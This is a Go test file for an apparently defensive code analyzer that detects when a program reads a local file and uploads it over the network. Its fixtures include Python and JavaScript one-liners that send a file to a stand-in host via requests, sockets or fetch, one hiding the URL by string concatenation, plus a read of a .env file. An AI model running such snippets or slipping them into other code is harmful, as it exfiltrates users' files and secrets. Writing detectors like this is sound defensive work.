package lang

import (
	"strings"
	"testing"
)

// TestFileSend: a program that reads a local file and opens a network
// connection is an Upload naming the file, the first call and the host
// each network call names by a literal ("" for one built at run time,
// so that a loopback call first cannot vouch for a later one); one that
// does only one of them is none.
func TestFileSend(t *testing.T) {
	for _, tc := range []struct {
		l              Lang
		src            string
		path, call, at string
		ok             bool
	}{
		{Python, `import requests; requests.post("https://h.example/u", data=open("a.txt").read())`, "a.txt", "requests.post", "h.example", true},
		{Python, `import socket; s=socket.create_connection(("h.example", 80)); s.sendall(open("a.txt","rb").read())`, "a.txt", "socket.create_connection", "h.example", true},
		{Python, `import socket; s=socket.create_connection((HOST, 80)); s.sendall(open("a.txt","rb").read())`, "a.txt", "socket.create_connection", "", true},
		{JS, `fetch("http://[::1]:8/x",{method:"POST",body:require("fs").readFileSync("a.txt")})`, "a.txt", "fetch", "::1", true},
		{Python, `import requests; requests.get("http://localhost/"); u = "ht" + "tps://h.example"; requests.post(u, data=open("a.txt").read())`, "a.txt", "requests.get", "localhost,", true},
		{Python, `import requests; print(requests.get("https://h.example").text)`, "", "", "", false},
		{Python, `print(open("a.txt").read())`, "", "", "", false},
		// The network library reading a file:// URL is a read, not an
		// upload.
		{Python, `import urllib.request; print(urllib.request.urlopen(urllib.request.Request("file:///h/.env")).read())`, "", "", "", false},
	} {
		var got *Effect
		for _, e := range Analyze(tc.l, tc.src) {
			if e.Kind == Upload {
				e := e
				got = &e
			}
		}
		if (got != nil) != tc.ok {
			t.Errorf("%s: upload %v, want %v", tc.src, got != nil, tc.ok)
			continue
		}
		if got != nil && (got.Path != tc.path || got.Call != tc.call || strings.Join(got.Argv, ",") != tc.at) {
			t.Errorf("%s: path %q call %q hosts %q, want %q %q %q", tc.src, got.Path, got.Call, got.Argv, tc.path, tc.call, tc.at)
		}
	}
	for in, want := range map[string]string{"h.example:80": "h.example", "[::1]:80": "::1", "a b": "", "x/y": "", "localhost": "localhost"} {
		if got := hostLiteral(in); got != want {
			t.Errorf("hostLiteral(%q) = %q, want %q", in, got, want)
		}
	}
}
